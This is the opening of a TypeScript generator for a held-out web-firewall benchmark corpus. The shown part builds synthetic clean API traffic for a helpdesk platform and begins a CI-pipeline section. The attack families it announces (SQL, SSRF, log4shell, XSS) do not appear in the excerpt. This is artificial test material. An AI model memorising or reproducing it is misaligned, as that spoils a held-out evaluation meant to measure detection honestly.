// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads, CI configs and ICU strings contain literal ${...}
/**
 * Held-out WAF corpus #8 — written blind.
 *
 * This corpus was authored without reading the WAF implementation, its rules, its policy, the docs, the
 * measurement script, earlier held-out corpora or the benchmark results. Only the `CorpusRequest` type is
 * imported. It models realistic API traffic from eight domains that earlier corpora did not cover:
 *
 * 1. a customer-support / helpdesk platform (tickets, macros, canned replies, satisfaction surveys)
 * 2. a DevOps / CI platform (pipeline YAML, job log excerpts, build-failure comments, environment variables)
 * 3. a healthcare appointments / patient portal (visit notes, prescriptions, FHIR-style JSON)
 * 4. an e-learning platform for programming (exercise submissions, forum questions, quiz answers)
 * 5. a social network / community forum (posts, comments, emoji, mentions, hashtags, markdown)
 * 6. an e-commerce marketplace (rich-text listings, reviews, coupons, order notes)
 * 7. a data / BI tool (dashboards, saved SQL queries, chart configs, filter expressions)
 * 8. a translation / localization service (ICU message format, plural rules, many scripts)
 *
 * Clean kinds: rest-write, merge-patch, json-patch, jsonapi, graphql, delete, search, form, multipart,
 * ndjson, webhook, cms-html, code, prose, i18n.
 *
 * Attack families: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell, xss.
 * Attack techniques: plain, nested, key, array, unicode-escape, json-in-string, base64, graphql-variable,
 * double-encoded, query-param, header, cookie, form, multipart.
 *
 * Output is deterministic (seeded mulberry32). Run with `node bench/waf/corpus/heldout8.ts` to write
 * `clean-heldout8.json` and `attacks-heldout8.json` next to this file.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Fields the API owners exclude from WAF inspection because they carry source code by design. */
export const HELDOUT8_EXCLUDE_FIELDS: string[] = [
  'body.pipeline.config',
  'body.submission.source',
  'body.query.sql',
];

/** Deterministic 32-bit PRNG (mulberry32). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x8e1f_2c47);

type Json = unknown;
type Headers = Record<string, string>;

function pick<T>(xs: readonly T[]): T {
  return xs[Math.floor(rnd() * xs.length)]!;
}
function int(lo: number, hi: number): number {
  return lo + Math.floor(rnd() * (hi - lo + 1));
}
function chance(p: number): boolean {
  return rnd() < p;
}
function hex(n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rnd() * 16)];
  return s;
}
const B62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
function b62(n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += B62[Math.floor(rnd() * 62)];
  return s;
}
function b64url(n: number): string {
  let s = '';
  const al = B62 + '-_';
  for (let i = 0; i < n; i++) s += al[Math.floor(rnd() * 64)];
  return s;
}
function uuid(): string {
  return `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
}
function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}
function b64u(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}
function jwt(sub: string, iss: string): string {
  const head = b64u(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const now = 1795900000 + int(0, 900000);
  const body = b64u(JSON.stringify({ sub, iss, aud: 'api', iat: now, exp: now + 3600, scope: 'read write' }));
  return `${head}.${body}.${b64url(43)}`;
}
function isoDate(): string {
  const d = new Date(Date.UTC(2026, int(0, 10), int(1, 28), int(0, 23), int(0, 59), int(0, 59)));
  return d.toISOString();
}
function day(): string {
  return isoDate().slice(0, 10);
}
function qs(params: Record<string, string | number>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}
function form(params: [string, string][]): string {
  return new URLSearchParams(params).toString();
}

interface Part {
  name: string;
  filename?: string;
  type?: string;
  content: string;
}
function multipart(parts: Part[]): { ct: string; body: string } {
  const boundary = pick([
    `----WebKitFormBoundary${b62(16)}`,
    `----geckoformboundary${hex(30)}`,
    `${'-'.repeat(26)}${int(100000000, 999999999)}${int(100000000, 999999999)}`,
    `dart-http-boundary-${b62(20)}`,
    `${hex(32)}`,
  ]);
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.content}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}
function pngish(): string {
  let s =
    '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u0002\u0000\u0000\u0000\u0001\u0080\b\u0006';
  for (let i = 0; i < 48; i++) s += String.fromCharCode(int(32, 255));
  return s + 'IEND\u00aeB`\u0082';
}

// ---------------------------------------------------------------------------------------------------------
// Client header profiles
// ---------------------------------------------------------------------------------------------------------

const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
];
const LANGS = [
  'en-US,en;q=0.9',
  'en-GB,en;q=0.8',
  'de-DE,de;q=0.9,en;q=0.7',
  'fr-FR,fr;q=0.9',
  'ja-JP,ja;q=0.9,en;q=0.5',
  'es-MX,es;q=0.9,en;q=0.6',
  'ar-EG,ar;q=0.9,en;q=0.4',
  'pt-BR,pt;q=0.9',
];

/** Browser SPA call with a session cookie and CSRF token. */
function browser(host: string, page: string, extra: Headers = {}): Headers {
  const ua = pick(BROWSER_UAS);
  const h: Headers = {
    'user-agent': ua,
    accept: pick(['application/json, text/plain, */*', 'application/json', '*/*']),
    'accept-language': pick(LANGS),
    'accept-encoding': 'gzip, deflate, br, zstd',
    origin: `https://${host}`,
    referer: `https://${host}${page}`,
    'sec-fetch-dest': 'empty',
    'sec-fetch-mode': 'cors',
    'sec-fetch-site': 'same-origin',
    cookie: `sid=${b62(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1790000000)}; theme=${pick(['dark', 'light', 'system'])}`,
    'x-csrf-token': b64url(40),
  };
  if (ua.includes('Chrome')) {
    h['sec-ch-ua'] = '"Chromium";v="142", "Google Chrome";v="142", "Not_A Brand";v="99"';
    h['sec-ch-ua-mobile'] = ua.includes('Mobile') ? '?1' : '?0';
    h['sec-ch-ua-platform'] = ua.includes('Windows')
      ? '"Windows"'
      : ua.includes('Android')
        ? '"Android"'
        : '"macOS"';
  }
  return { ...h, ...extra };
}

const MOBILE_APPS: Record<string, string[]> = {
  help: [
    'Tidewater Support/5.12.1 (iPhone; iOS 18.6; Scale/3.00)',
    'TidewaterAgent/5.11.0 (Android 14; SM-S918B) okhttp/4.12.0',
  ],
  ci: ['ForgelineMobile/2.3.0 (iPad; iPadOS 18.1)', 'okhttp/4.12.0'],
  health: [
    'MercyvaleMyChart/11.4 (iPhone15,3; iOS 18.5) CFNetwork/1568.300.101 Darwin/24.2.0',
    'Mercyvale/11.4.2 (Android 15; Pixel 7a) okhttp/4.11.0',
  ],
  learn: [
    'CodePath/3.8.0 (com.codepath.app; build:3801; iOS 18.6.2) Alamofire/5.10.1',
    'CodePathAndroid/3.8.1 Dalvik/2.1.0 (Linux; U; Android 13; moto g 5G)',
  ],
  social: [
    'Hearth/9.41.0 (iPhone16,2; iOS 26.1; Scale/3.00)',
    'Hearth/9.41.2 (Android 15; SM-A556B; Build/AP3A) okhttp/5.0.0',
    'Dart/3.5 (dart:io)',
  ],
  shop: [
    'Bazaarly/7.2.0 (iPhone14,5; iOS 18.3) Alamofire/5.9.1',
    'Bazaarly-Android/7.2.1 (Linux; Android 14; Redmi Note 13) okhttp/4.12.0',
  ],
  bi: ['Lumenboard/1.9.0 (Macintosh; macOS 15.1) Electron/33.2.0'],
  l10n: ['Polyglotter-CLI/4.2.0 node/22.11.0 darwin-arm64', 'polyglotter-gradle-plugin/1.6.3 Java/21.0.5'],
};

/** Native mobile / desktop app call with a bearer token. */
function mobile(app: string, extra: Headers = {}): Headers {
  return {
    'user-agent': pick(MOBILE_APPS[app] ?? ['okhttp/4.12.0']),
    accept: 'application/json',
    'accept-language': pick(['en-US', 'en-GB', 'de-DE', 'ja-JP', 'es-ES', 'ar', 'hi-IN', 'ko-KR']),
    'accept-encoding': 'gzip',
    authorization: `Bearer ${jwt(`usr_${b62(10)}`, `https://auth.${app}.example`)}`,
    'x-request-id': uuid(),
    'x-app-version': `${int(1, 11)}.${int(0, 40)}.${int(0, 9)}`,
    ...extra,
  };
}

const SDK_UAS = [
  'python-requests/2.32.3',
  'axios/1.7.9',
  'Go-http-client/2.0',
  'node-fetch/3.3.2',
  'undici',
  'curl/8.11.1',
  'Apache-HttpClient/5.3.1 (Java/21.0.4)',
  'Faraday v2.12.2',
  'okhttp/4.12.0',
  'Ruby',
  'PostmanRuntime/7.43.0',
  'terraform-provider-forgeline/0.18.2',
  'python-httpx/0.28.1',
];

/** Server-side SDK / script call with an API token. */
function sdk(extra: Headers = {}): Headers {
  const h: Headers = {
    'user-agent': pick(SDK_UAS),
    accept: pick(['application/json', '*/*', 'application/json; charset=utf-8']),
    'x-request-id': uuid(),
  };
  if (chance(0.6)) h.authorization = `Bearer ${pick(['sk_live_', 'pat_', 'glpat-', 'tok_'])}${b62(32)}`;
  else h['x-api-key'] = b62(40);
  if (chance(0.5)) h['accept-encoding'] = 'gzip, deflate';
  return { ...h, ...extra };
}

// ---------------------------------------------------------------------------------------------------------
// Clean traffic
// ---------------------------------------------------------------------------------------------------------

type Draft = Omit<CorpusRequest, 'id'>;
const cleanDrafts: Draft[] = [];

function add(kind: string, method: string, path: string, headers: Headers, body = '', ct?: string): void {
  const h = { ...headers };
  if (ct) h['content-type'] = ct;
  if (body && !ct) throw new Error(`body without content-type for ${path}`);
  cleanDrafts.push({ kind, method, path, headers: h, body });
}
function addJson(
  kind: string,
  method: string,
  path: string,
  headers: Headers,
  obj: Json,
  ct = 'application/json',
): void {
  add(kind, method, path, headers, JSON.stringify(obj), ct);
}
function addGql(
  kind: string,
  path: string,
  headers: Headers,
  operationName: string,
  query: string,
  variables: Json,
): void {
  addJson(kind, 'POST', path, headers, { operationName, query, variables });
}
function addGqlGet(path: string, headers: Headers, query: string, variables?: Json): void {
  let p = `${path}?query=${encodeURIComponent(query)}`;
  if (variables !== undefined) p += `&variables=${encodeURIComponent(JSON.stringify(variables))}`;
  add('graphql', 'GET', p, headers);
}

const FIRST = [
  'Maria',
  'James',
  'Aiko',
  'Oluwaseun',
  'Priya',
  'Lukas',
  'Sofía',
  'Chen',
  'Fatima',
  'Noah',
  'Zoë',
  'Dmitri',
  'Kwame',
  'Ingrid',
  "D'Arcy",
  'Seo-yeon',
  'Mateus',
  'Siobhán',
];
const LAST = [
  'García',
  "O'Connor",
  'Nakamura',
  'Adeyemi',
  'Sharma',
  'Müller',
  'Hernández',
  'Wang',
  'Haddad',
  'Smith-Jones',
  'Kowalski',
  'Nguyen',
  'van der Berg',
  'Øvergaard',
];
function person(): { first: string; last: string; email: string } {
  const first = pick(FIRST);
  const last = pick(LAST);
  const local = `${first}.${last}`
    .toLowerCase()
    .normalize('NFD')
    .replace(/[^a-z.]/g, '');
  return {
    first,
    last,
    email: `${local}${chance(0.3) ? int(1, 99) : ''}@${pick(['gmail.com', 'outlook.com', 'acme-corp.com', 'proton.me', 'yahoo.co.jp', 'web.de'])}`,
  };
}

// --- 1. Helpdesk ----------------------------------------------------------------------------------------

const HELP = 'support.tidewater.io';
const HELP_MSGS = [
  "Hi, I tried to delete my old workspace from the admin panel but the button is greyed out. I'm the owner (role = Admin). Can you check?",
  "Since the update yesterday I can't select more than 50 rows in the export dialog. Drop-down just closes. Using Chrome 142 on Windows 11.",
  'We were charged twice for order #48213 — once on 3/14 and again on 3/15. Please refund the duplicate ($249.00).',
  'Our SSO login loops back to the sign-in page. Steps: 1) go to /login 2) click "Sign in with Okta" 3) redirected to /login?error=state_mismatch. Happens for everyone on our domain.',
  'Is there a way to insert a signature into every reply automatically? Right now agents copy & paste it from a Google Doc.',
  'The CSV export puts quotes around every field and Excel shows "=SUM(A1:A3)" as text. Can we turn that off?',
  "Hello,\n\nI'd like to update the billing address on our account from 12 Main St. to 450 Market St., Suite #300, San Francisco, CA 94105.\n\nThanks,\nDana",
  'Your agent said to "just clear the cache" – I did that 3 times. Still broken. Escalate please!!!',
  'Please cancel my subscription effective end of the month. I do NOT want it to auto-renew. Order ID: TW-2026-00917',
  'When I paste from Word the formatting goes crazy (bullets become <li> tags in the email preview?). Screenshot attached.',
  'Our webhook endpoint returns 200 but your dashboard shows "delivery failed (timeout after 10s)". Is the timeout configurable?',
  'Hi team — the "Merge tickets" feature merged the wrong ones (#10233 into #10234 instead of the other way). Can it be undone?',
  "Agents in the Tier 2 group can see tickets from the VIP group where they shouldn't. Group permissions: Tier 2 -> view own group only.",
  "I get error 500 when I try to upload a 30 MB PDF. Smaller files work. Is there a limit? Couldn't find it in the docs.",
  "Where do I find the API key? Settings > Developer > API tokens is empty for me; maybe because I'm not an admin?",
  'Hey, the satisfaction survey email goes out even for tickets closed as spam. Can we exclude tags:spam from the trigger?',
  'The time-tracking report shows 0h for March; I think the filter "where status is solved OR closed" isn\'t applied correctly.',
  "My password reset link says it expired even though I clicked it within 2 minutes. I'm on the EU data center if that matters.",
  'Can I schedule a macro to run at 9:00 every Monday? e.g. remind customers whose tickets are pending > 7 days.',
  'Thanks for the quick fix!! 🙏 Everything works now. You can close this ticket.',
];
const HELP_SUBJECTS = [
  'Cannot delete workspace',
  'Export dialog limit',
  'Double charge on invoice',
  'SSO redirect loop',
  'Auto signature?',
  'CSV export quoting',
  'Billing address update',
  'Still broken after cache clear',
  'Cancel subscription',
  'Formatting issue when pasting',
  'Webhook timeout',
  'Wrong tickets merged',
  'Group permission leak',
  'Upload fails (500)',
  'Where is my API key',
  'Survey on spam tickets',
  'Time tracking report = 0h',
  'Password reset link expired',
  'Scheduled macros',
  'Resolved - thanks',
];
const MACROS = [
  {
    title: 'Refund approved',
    body: "Hi {{ticket.requester.first_name}},\n\nGood news — we've issued a refund of {{ticket.custom_fields.refund_amount}} to your original payment method. It can take 5–10 business days to show up.\n\nBest,\n{{current_user.first_name}}",
  },
  {
    title: 'Password reset instructions',
    body: 'Hi {{ticket.requester.name}},\n\nPlease go to https://app.tidewater.io/reset and enter {{ticket.requester.email}}. If the link expires, request a new one — links are valid for 30 minutes.\n\n{{#if ticket.organization.sso}}Your organization uses SSO, so reset your password with your identity provider instead.{{/if}}',
  },
  {
    title: 'Need more info (browser)',
    body: 'Could you tell us which browser & version you use? You can find it under Help > About. A screenshot of the console (F12 > Console) would help a lot.',
  },
  {
    title: 'Closing - no response',
    body: "Hi {{ticket.requester.first_name | default: 'there'}}, we haven't heard back in 7 days so we'll close this ticket. Just reply to reopen it.",
  },
  {
    title: 'Outage acknowledgement',
    body: 'We are aware of an issue affecting {{ticket.custom_fields.product}} since {{ "now" | date: "%H:%M" }} UTC. Follow https://status.tidewater.io for updates.',
  },
];

function helpdesk(): void {
  const api = '/api/v2';
  for (let i = 0; i < HELP_MSGS.length; i++) {
    const p = person();
    const viaMobile = chance(0.3);
    const h = viaMobile ? mobile('help') : browser(HELP, '/agent/tickets/new');
    const kind = /[<>;|&$'"(){}%]|select|delete|drop|update|insert|where|from/i.test(HELP_MSGS[i]!)
      ? 'prose'
      : 'rest-write';
    addJson(kind, 'POST', `${api}/tickets`, h, {
      ticket: {
        subject: HELP_SUBJECTS[i],
        comment: { body: HELP_MSGS[i], public: true },
        priority: pick(['low', 'normal', 'high', 'urgent']),
        type: pick(['question', 'incident', 'problem', 'task']),
        requester: { name: `${p.first} ${p.last}`, email: p.email },
        tags: pick([['billing'], ['sso', 'login'], [], ['export', 'csv'], ['vip']]),
        custom_fields: [
          { id: 360012345678, value: pick(['web', 'ios', 'android', 'api']) },
          { id: 360087654321, value: pick(['starter', 'growth', 'enterprise']) },
        ],
      },
    });
  }
  // agent replies
  const replies = [
    'Hi {name}, thanks for the details! I reproduced it: the export stops at 50 rows when the "Select all" checkbox is used. Workaround: select the rows page by page. Engineering ticket ENG-4412.',
    "I've merged #10233 back out. Note: internal notes from both tickets are kept on the older one.",
    'Please try this in an incognito window and let me know if it still fails — if so, send us the HAR file (DevTools > Network > right click > Save all as HAR).',
    '<p>Hi {name},</p><p>The limit for attachments is <strong>20&nbsp;MB</strong>. For bigger files use a share link.</p><p>Cheers,<br>Tom</p>',
    'Internal note: customer is on legacy plan; do NOT offer the 20% discount. cc @billing-team',
    'Looping in @maria.garcia from our SSO team. Maria, the IdP returns RelayState="" which we reject.',
  ];
  for (const r of replies) {
    const p = person();
    const body = r.replace('{name}', p.first);
    addJson(
      body.startsWith('<') ? 'cms-html' : 'prose',
      'PUT',
      `${api}/tickets/${int(10000, 19999)}`,
      browser(HELP, `/agent/tickets/${int(10000, 19999)}`),
      {
        ticket: {
          comment: {
            body: body.startsWith('<') ? undefined : body,
            html_body: body.startsWith('<') ? body : undefined,
            public: !body.startsWith('Internal'),
            author_id: int(1e9, 9e9),
          },
          status: pick(['open', 'pending', 'solved']),
        },
      },
    );
  }
  for (const m of MACROS) {
    addJson(
      'rest-write',
      'POST',
      `${api}/macros`,
      browser(HELP, '/admin/workspaces/agent-workspace/macros/new'),
      {
        macro: {
          title: m.title,
          active: true,
          restriction: chance(0.5) ? null : { type: 'Group', ids: [int(100, 999)] },
          actions: [
            { field: 'comment_value_html', value: m.body },
            { field: 'status', value: pick(['pending', 'solved']) },
            { field: 'current_tags', value: 'macro_applied' },
          ],
        },
      },
    );
  }
  // merge-patch and json-patch
  for (let i = 0; i < 4; i++) {
    addJson(
      'merge-patch',
      'PATCH',
      `${api}/tickets/${int(10000, 19999)}`,
      browser(HELP, '/agent/tickets'),
      pick([
        { status: 'solved', assignee_id: int(1e9, 9e9) },
        { priority: 'urgent', tags: ['escalated', 'vip'] },
        { custom_fields: { refund_amount: '$49.00', product: null } },
        {
          due_at: isoDate(),
          group_id: int(100, 999),
          followers: [{ user_email: 'lead@tidewater.io', action: 'put' }],
        },
      ]),
      'application/merge-patch+json',
    );
  }
  addJson(
    'json-patch',
    'PATCH',
    `${api}/macros/${int(100000, 999999)}`,
    sdk(),
    [
      { op: 'replace', path: '/title', value: 'Refund approved (v2)' },
      { op: 'add', path: '/actions/-', value: { field: 'priority', value: 'low' } },
      { op: 'remove', path: '/restriction' },
    ],
    'application/json-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/views/${int(1000, 9999)}`,
    sdk(),
    [
      { op: 'test', path: '/conditions/all/0/value', value: 'open' },
      { op: 'replace', path: '/conditions/all/0/value', value: 'pending' },
      { op: 'copy', from: '/columns/0', path: '/columns/3' },
    ],
    'application/json-patch+json',
  );
  // satisfaction surveys (form posts from the email link landing page)
  const comments = [
    'Agent was great but it took 3 days to get a reply :(',
    'Fast & friendly. 10/10',
    'Didn\'t solve my problem. I had to figure out myself that the "drop old data" option deletes everything.',
    '',
    'Honestly the bot is useless, I typed "talk to a human" 5 times',
    'Très bien, merci ! Problème résolu en 10 min.',
  ];
  for (const c of comments) {
    add(
      'form',
      'POST',
      `/satisfaction/${b62(22)}`,
      browser(HELP, `/satisfaction/${b62(22)}`, {
        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
        'sec-fetch-dest': 'document',
        'sec-fetch-mode': 'navigate',
      }),
      form([
        ['authenticity_token', b64url(43)],
        ['rating', pick(['good', 'bad', 'good'])],
        ['reason_code', pick(['0', '5', '6', '7'])],
        ['comment', c],
        ['commit', 'Submit'],
      ]),
      'application/x-www-form-urlencoded',
    );
  }
  // search
  const searches = [
    'type:ticket status:open "refund" -tags:spam',
    'requester:*@acme-corp.com created>2026-01-01 priority:urgent',
    '"password reset" OR "reset link" order_by:updated_at sort:desc',
    'subject:"can\'t log in" status<solved',
    'tags:sso_broken assignee:none',
    "O'Brien",
    'error 500 upload pdf',
    'type:user role:agent name:"Seo-yeon*"',
    '"drop-down" AND (export OR csv)',
    'fieldvalue:TW-2026-00917',
  ];
  for (const s of searches) {
    add(
      'search',
      'GET',
      `${api}/search.json?${qs({ query: s, page: 1, per_page: 25 })}`,
      chance(0.5) ? browser(HELP, '/agent/search') : sdk(),
    );
  }
  add('delete', 'DELETE', `${api}/tickets/${int(10000, 19999)}`, browser(HELP, '/agent/tickets'));
  add(
    'delete',
    'DELETE',
    `${api}/tickets/${int(10000, 19999)}/tags?${qs({ tags: 'spam,auto-close' })}`,
    sdk(),
  );
  add(
    'delete',
    'DELETE',
    `${api}/macros/destroy_many?ids=${int(100, 999)},${int(100, 999)},${int(100, 999)}`,
    sdk(),
  );
  // attachment uploads
  {
    const mp = multipart([
      { name: 'ticket_id', content: String(int(10000, 19999)) },
      {
        name: 'file',
        filename: 'screenshot 2026-03-14 at 10.22.31.png',
        type: 'image/png',
        content: pngish(),
      },
    ]);
    add('multipart', 'POST', `${api}/uploads`, browser(HELP, '/agent/tickets/12345'), mp.body, mp.ct);
    const mp2 = multipart([
      {
        name: 'file',
        filename: 'har-export.txt',
        type: 'text/plain',
        content:
          'GET https://app.tidewater.io/api/session -> 302\nGET https://login.okta.com/oauth2/v1/authorize?client_id=0oa1&state=abc&redirect_uri=https%3A%2F%2Fapp.tidewater.io%2Fcallback -> 200\nPOST https://app.tidewater.io/callback -> 302 Location: /login?error=state_mismatch\n',
      },
    ]);
    add('multipart', 'POST', `${api}/uploads?filename=har-export.txt`, mobile('help'), mp2.body, mp2.ct);
  }
  // inbound email webhook (Mailgun-style form) and Slack slash command
  add(
    'webhook',
    'POST',
    '/hooks/inbound-email',
    { 'user-agent': 'mailgun/treq-22.2.0', accept: '*/*', 'x-request-id': uuid() },
    form([
      ['recipient', 'support@tidewater.io'],
      ['sender', 'li.wang@acme-corp.com'],
      ['subject', 'Re: [Tidewater] Ticket #10233 - Export stops at 50 rows'],
      [
        'body-plain',
        'Thanks Tom, the workaround works.\n\nOn Tue, Mar 17, 2026 at 9:12 AM Tidewater Support <support@tidewater.io> wrote:\n> Workaround: select the rows page by page.\n> ENG-4412',
      ],
      ['stripped-text', 'Thanks Tom, the workaround works.'],
      ['timestamp', String(int(1790000000, 1799999999))],
      ['token', hex(50)],
      ['signature', hex(64)],
    ]),
    'application/x-www-form-urlencoded',
  );
  add(
    'webhook',
    'POST',
    '/hooks/slack/commands',
    {
      'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
      accept: 'application/json,*/*',
      'x-slack-request-timestamp': String(int(1790000000, 1799999999)),
      'x-slack-signature': `v0=${hex(64)}`,
    },
    form([
      ['token', b62(24)],
      ['team_id', `T${b62(10).toUpperCase()}`],
      ['channel_name', 'support-escalations'],
      ['user_name', 'dana.k'],
      ['command', '/ticket'],
      ['text', 'create "Checkout broken for EU customers" priority:high @oncall'],
      ['response_url', `https://hooks.slack.com/commands/T0001/${int(1e11, 9e11)}/${b62(24)}`],
      ['trigger_id', `${int(1e11, 9e11)}.${int(1e9, 9e9)}.${hex(32)}`],
    ]),
    'application/x-www-form-urlencoded',
  );
  // help center article (rich text)
  addJson(
    'cms-html',
    'POST',
    `${api}/help_center/sections/${int(1e9, 9e9)}/articles`,
    browser(HELP, '/hc/admin/articles/new'),
    {
      article: {
        title: 'How to export tickets to CSV',
        locale: 'en-us',
        body: '<h2 id="h_01">Before you start</h2><p>You need the <strong>Admin</strong> role. Exports are limited to <em>10,000 rows</em>.</p><ol><li>Go to <a href="/admin/reports" target="_blank" rel="noopener">Admin &gt; Reports</a>.</li><li>Click <code>Export</code> and select <strong>CSV</strong>.</li><li>Choose a date range &amp; filters, e.g. <code>status = solved</code>.</li></ol><table style="width: 100%; border-collapse: collapse;"><thead><tr><th>Column</th><th>Description</th></tr></thead><tbody><tr><td>id</td><td>Ticket ID</td></tr><tr><td>requester_email</td><td>Who opened it</td></tr></tbody></table><p><img src="https://support.tidewater.io/hc/article_attachments/360091/export.png" alt="Export dialog" width="640" height="360"></p><div class="callout callout--warning" style="background-color:#fff4e5;padding:12px;">⚠️ Large exports are emailed to you.</div>',
        user_segment_id: null,
        permission_group_id: int(100000, 999999),
        label_names: ['export', 'csv', 'reporting'],
      },
    },
  );
  // i18n tickets
  const intl = [
    [
      'ログインできません',
      'パスワードをリセットしましたが、「リンクの有効期限が切れています」と表示されます。至急対応をお願いします。',
    ],
    [
      'مشكلة في الفاتورة',
      'تم خصم المبلغ مرتين من بطاقتي. أرجو استرداد المبلغ المكرر في أقرب وقت. رقم الطلب: ٤٨٢١٣',
    ],
    [
      'Export funktioniert nicht',
      'Beim Export als CSV werden Umlaute (ä, ö, ü, ß) falsch dargestellt → „MÃ¼ller“ statt „Müller“.',
    ],
    [
      'Не приходят уведомления',
      'С прошлой недели не приходят письма о новых ответах. Проверил папку «Спам» — пусто.',
    ],
    ['티켓 병합 오류', '잘못된 티켓이 병합되었습니다. #10233 과 #10234 를 분리해 주세요 🙏'],
  ];
  for (const [s, b] of intl) {
    addJson('i18n', 'POST', `${api}/tickets`, mobile('help'), {
      ticket: { subject: s, comment: { body: b }, priority: 'normal', via: { channel: 'mobile_sdk' } },
    });
  }
  addGql(
    'graphql',
    '/graphql',
    browser(HELP, '/agent/dashboard'),
    'AgentQueue',
    'query AgentQueue($groupId: ID!, $first: Int = 25, $after: String) {\n  group(id: $groupId) {\n    name\n    tickets(first: $first, after: $after, filter: {status: [OPEN, PENDING]}) {\n      edges { node { id subject priority updatedAt requester { name email } } }\n      pageInfo { hasNextPage endCursor }\n    }\n  }\n}',
    { groupId: `gid://tidewater/Group/${int(100, 999)}`, first: 50, after: null },
  );
  addGqlGet(
    '/graphql',
    browser(HELP, '/agent/dashboard'),
    '{ viewer { id name role unreadNotifications: notifications(unread: true) { totalCount } } }',
  );
}

// --- 2. DevOps / CI --------------------------------------------------------------------------------------

const CI = 'ci.forgeline.dev';
const PIPELINES = [
  'stages: [lint, test, build, deploy]\n\nvariables:\n  NODE_VERSION: "22"\n  npm_config_cache: "$CI_PROJECT_DIR/.npm"\n\ntest:\n  stage: test\n  image: node:${NODE_VERSION}-bookworm\n  services:\n    - postgres:16\n  script:\n    - npm ci --prefer-offline\n    - npm run migrate -- --env test\n    - npm test -- --reporter=junit > junit.xml\n  artifacts:\n    reports:\n      junit: junit.xml\n  rules:\n    - if: \'$CI_PIPELINE_SOURCE == "merge_request_event"\'\n    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n',
  'build:\n  stage: build\n  image: docker:27\n  services: [docker:27-dind]\n  before_script:\n    - echo "$REGISTRY_PASSWORD" | docker login -u "$REGISTRY_USER" --password-stdin $REGISTRY\n  script:\n    - docker build --build-arg GIT_SHA=$CI_COMMIT_SHORT_SHA -t $REGISTRY/app:$CI_COMMIT_SHORT_SHA .\n    - docker push $REGISTRY/app:$CI_COMMIT_SHORT_SHA\n    - |\n      if [ "$CI_COMMIT_BRANCH" = "main" ]; then\n        docker tag $REGISTRY/app:$CI_COMMIT_SHORT_SHA $REGISTRY/app:latest && docker push $REGISTRY/app:latest\n      fi\n',
  'deploy-prod:\n  stage: deploy\n  environment:\n    name: production\n    url: https://app.example.com\n  when: manual\n  script:\n    - curl -fsSL https://get.helm.sh/helm-v3.16.3-linux-amd64.tar.gz | tar xz -C /tmp\n    - /tmp/linux-amd64/helm upgrade --install web ./chart --set image.tag=${CI_COMMIT_SHORT_SHA} --wait --timeout 10m\n    - kubectl rollout status deploy/web -n prod || (kubectl logs -l app=web -n prod --tail=200; exit 1)\n',
  "on:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    strategy:\n      matrix:\n        python: ['3.11', '3.12', '3.13']\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with: { python-version: '${{ matrix.python }}' }\n      - run: pip install -e '.[dev]' && pytest -q --maxfail=1 -k \"not slow\"\n",
];
const BUILD_COMMENTS = [
  'Job #88213 failed on `npm ci`:\n\n```\nnpm ERR! code EACCES\nnpm ERR! syscall mkdir\nnpm ERR! path /root/.npm/_cacache\nnpm ERR! errno -13\n```\n\nLooks like the runner image changed its user. Fix: `export npm_config_cache=$CI_PROJECT_DIR/.npm` or run `chown -R 1000:1000 ~/.npm`.',
